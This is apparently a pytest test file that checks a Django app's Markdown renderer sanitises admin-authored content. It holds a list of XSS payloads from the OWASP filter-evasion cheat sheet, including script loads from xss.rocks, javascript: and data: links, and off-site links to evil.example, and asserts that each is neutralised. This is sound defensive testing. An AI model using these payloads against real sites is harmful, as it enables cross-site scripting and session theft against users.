"""Admin-authored Markdown is sanitised: vectors from the OWASP XSS filter-evasion cheat sheet,
and links a browser would read as another site or a script, in block and inline Markdown.

``XSS_VECTORS`` and ``audit`` are the hostile set and its judge for every field that becomes HTML
(tests/pages/test_hostile_text_in_every_field.py)."""

import itertools
import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from briefings.markdown import ResolvedCitation, render_markdown, safe_url

XSS_VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](http://evil.example/tracker.png)",
    '![x](x" onerror="alert(1))',
    "<img src=http://evil.example/x.png>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    "<!--<script>alert(1)</script>-->",
    '<p title="</p><script>alert(1)</script>">x</p>',
    # Links a browser reads as another site although they have no scheme, or as a script.
    "[off-site](//evil.example/x)",
    "[off-site](/\\evil.example/x)",
    "[off-site](\\\\evil.example/x)",
    "[off-site](/%5cevil.example/x)",
    "[off-site](<\t//evil.example/x>)",
    "[off-site](&#47;&#47;evil.example/x)",
    "[off-site][ref]\n\n[ref]: //evil.example/x",
    "<//evil.example/x>",
    '<a href="//evil.example/x">off-site</a>',
    '<a href="/\\evil.example/x">off-site</a>',
    '<a href=" &#9;/&#10;/evil.example/x">off-site</a>',
    '<a href="java&#9;script:alert(1)">script</a>',
    '<a href="&#1;javascript:alert(1)">script</a>',
    "[script](<java\tscript:alert(1)>)",
    "![x](//evil.example/tracker.png)",
]

SAFE_TAGS = {
    "p",
    "br",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "b",
    "i",
    "sup",
    "sub",
    "code",
    "pre",
    "blockquote",
    "figure",
    "figcaption",
    "a",
    "abbr",
    "span",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


class _Audit(HTMLParser):
    """Parse the output as a browser would and list everything that could run or load."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcset", "background", "action"}:
                self.problems.append(f"attribute {name}")
            if name == "href":
                problem = href_problem(value or "")
                if problem:
                    self.problems.append(problem)


def href_problem(href):
    """What is wrong with a link address, read as the URL standard reads it, or None.

    Browsers drop tabs and newlines anywhere and controls and spaces at the ends, and take a
    backslash for a slash; percent-encoded slashes are decoded too, to be safe."""
    for form in (href, _unquote(href)):
        target = re.sub(r"[\t\n\r]", "", form).strip("".join(map(chr, range(33))))
        target = target.replace("\\", "/").lower()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", target)
        if scheme and scheme.group(1) not in {"http", "https", "mailto"}:
            return f"href scheme {scheme.group(1)}"
        if not scheme and target.startswith("//"):
            return f"off-site link without a scheme: {href!r}"
    return None


def _unquote(text):
    return re.sub(r"%([0-9a-fA-F]{2})", lambda m: chr(int(m.group(1), 16)), text)


def audit(html):
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_every_xss_vector_is_neutralised(vector):
    html = render_markdown(f"Before.\n\n{vector}\n\nAfter.").html
    assert audit(html) == [], html
    assert "Before." in html


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vectors_inside_a_quote_attribution_are_neutralised(vector):
    html = render_markdown(f"> words\n>\n> — {vector}").html
    assert audit(html) == [], html


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_every_xss_vector_is_neutralised_in_inline_markdown(vector):
    # Key messages and reference entries are rendered inline: no paragraph around them.
    for text in (vector, f"Before {vector} after", f"*Before {vector}* after"):
        html = render_markdown(text, inline=True).html
        assert audit(html) == [], html


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_every_xss_vector_is_neutralised_inside_a_citation(vector):
    def resolver(key):
        return ResolvedCitation(href="/documents/police/#ref-coy", reference_id=7)

    for inline in (False, True):
        html = render_markdown(
            f"[{vector}](cite:coy-2009) and [x](cite:{vector})", resolver=resolver, inline=inline
        ).html
        assert audit(html) == [], html


def test_the_structure_editors_need_survives():
    html = render_markdown(
        "### A heading\n\nSome *emphasis*, **strong** and a [link](https://www.gov.uk/x).\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n> A block quote.\n"
    ).html
    for fragment in [
        "<h3>A heading</h3>",
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        '<a href="https://www.gov.uk/x" rel="noopener noreferrer">link</a>',
        "<ul>",
        "<li>one</li>",
        "<ol>",
        "<li>first</li>",
        "<blockquote>",
    ]:
        assert fragment in html


def test_relative_and_mail_links_are_kept():
    html = render_markdown("[doc](/documents/police/) and [mail](mailto:a@example.org)").html
    assert 'href="/documents/police/"' in html
    assert 'href="mailto:a@example.org"' in html


def test_a_quote_with_an_attribution_becomes_a_figure():
    rendered = render_markdown("> “They listened.”\n>\n> — Young person A; Smith, 2015")
    assert '<figure class="quote"><blockquote>' in rendered.html
    assert (
        '<figcaption class="quote-attribution">Young person A; Smith, 2015</figcaption>'
        in rendered.html
    )
    assert [(q.text, q.attribution) for q in rendered.quotes] == [
        ("“They listened.”", "Young person A; Smith, 2015")
    ]


def test_a_plain_block_quote_is_not_taken_for_a_young_persons_quote():
    rendered = render_markdown("> A definition.\n>\n> (Department for Education, 2017)")
    assert rendered.quotes == []
    assert "<figure" not in rendered.html


def test_citations_link_to_the_resolved_reference_and_unknown_ones_stay_text():
    def resolver(key):
        if key == "coy-2009":
            return ResolvedCitation(href="/documents/police/#ref-coy", reference_id=7)
        return None

    rendered = render_markdown(
        "([Coy, 2009](cite:coy-2009); [Nobody, 2020](cite:nobody))", resolver=resolver
    )
    assert '<a class="citation" href="/documents/police/#ref-coy"' in rendered.html
    assert '<span class="citation-unresolved">Nobody, 2020</span>' in rendered.html
    assert "cite:" not in rendered.html
    assert 'href="cite' not in rendered.html
    assert rendered.cited_reference_ids == [7]
    assert rendered.unresolved_citations == ["nobody"]


def test_overlong_text_is_refused_before_rendering(settings):
    settings.BRIEFINGS_MARKDOWN_MAX_CHARS = 1000
    with pytest.raises(ValidationError, match="limit is 1,000"):
        render_markdown("x" * 1001)


def test_pathological_nesting_renders_within_the_length_cap(settings):
    # Deeply nested emphasis and brackets made Python-Markdown slow (test_markdown_time_bound).
    text = ("*a **b [c " * 500)[: settings.BRIEFINGS_MARKDOWN_MAX_CHARS]
    assert render_markdown(text).html


# ---- links: judged as a browser reads them, by class ------------------------------------------

SEPARATORS = ["/", "\\", "%2f", "%2F", "%5c", "%5C"]
SPLITTERS = ["", "\t", "\n", "\r", "\x00", "\x01", "\x1f", " "]
SCHEMES = ["javascript", "JaVaScRiPt", "vbscript", "data", "file", "jav\tascript", "java\nscript"]


@st.composite
def off_site_addresses(draw):
    """Two slashes or backslashes (maybe percent-encoded) before a host, with tabs, newlines,
    controls or spaces around and between them: every one is another site to a browser."""
    return (
        draw(st.sampled_from(SPLITTERS))
        + draw(st.sampled_from(SEPARATORS))
        + draw(st.sampled_from(SPLITTERS))
        + draw(st.sampled_from(SEPARATORS))
        + draw(st.sampled_from(["evil.example", "evil.example/x?y#z", "@evil.example", "127.1"]))
    )


@st.composite
def script_addresses(draw):
    scheme = draw(st.sampled_from(SCHEMES))
    cut = draw(st.integers(0, len(scheme)))
    scheme = scheme[:cut] + draw(st.sampled_from(SPLITTERS)) + scheme[cut:]
    return draw(st.sampled_from(SPLITTERS)) + scheme + ":alert(1)"


def _link_forms(address):
    """The address in every way content can carry it: Markdown links, images, references and
    autolinks, in and out of angle brackets, and raw HTML (with its characters as references)."""
    escaped = "".join(f"&#{ord(c)};" for c in address)
    return [
        f"[a]({address})",
        f"[b](<{address}>)",
        f"![c]({address})",
        f"[d][r{len(address)}]\n\n[r{len(address)}]: <{address}>\n",
        f"<{address}>",
        f'<a href="{address}">e</a>',
        f'<a href="{escaped}">f</a>',
        f"<a href='{address}'>g</a>",
    ]


@settings(max_examples=300, deadline=None)
@given(address=st.one_of(off_site_addresses(), script_addresses()), inline=st.booleans())
def test_no_form_of_an_off_site_or_script_address_survives_as_a_link(address, inline):
    for form in _link_forms(address):
        html = render_markdown(f"Text {form} text", inline=inline).html
        assert audit(html) == [], (form, html)


@pytest.mark.parametrize(
    "address",
    [
        "/documents/police/",
        "/documents/police/#ref-coy-2009",
        "#ref-coy-2009",
        "?q=police",
        "/search/?q=a%2Fb",
        "police/",
        "https://www.gov.uk/government/publications/x",
        "HTTPS://www.gov.uk/x",
        "http://example.org/a//b",
        "mailto:someone@example.org",
    ],
)
def test_addresses_on_this_site_and_web_and_mail_addresses_are_kept_as_written(address):
    assert safe_url(address) == address
    for form in (f"[link]({address})", f'<a href="{address}">link</a>'):
        html = render_markdown(form, inline=True).html
        assert f'href="{address}"'.replace("&", "&amp;") in html, html


def test_tabs_and_newlines_in_a_kept_address_are_removed_as_browsers_remove_them():
    assert safe_url("\t/documents/\npolice/ ") == "/documents/police/"


def test_control_characters_around_a_kept_address_are_removed_as_browsers_remove_them():
    # The URL standard strips C0 controls and spaces at both ends, not only white space.
    assert safe_url("\x01\x1b https://example.org/\x00\x08") == "https://example.org/"
    html = render_markdown('<a href="\x01https://example.org/">x</a>', inline=True).html
    assert 'href="https://example.org/"' in html


@pytest.mark.parametrize(("first", "second"), list(itertools.product(SEPARATORS, repeat=2)))
def test_the_address_policy_refuses_every_pair_of_leading_separators(first, second):
    assert safe_url(f"{first}{second}evil.example") is None


def test_a_lone_surrogate_is_replaced_rather_than_refused_or_crashed_on():
    # No real text has one, but a pasted fragment of a broken file might: it cannot be encoded
    # for the sanitiser, so its three bytes (as "surrogatepass" writes it) each become U+FFFD
    # REPLACEMENT CHARACTER, and the rest is kept.
    replaced = "\ufffd" * 3
    assert render_markdown("before \ud800 after").html == f"<p>before {replaced} after</p>"
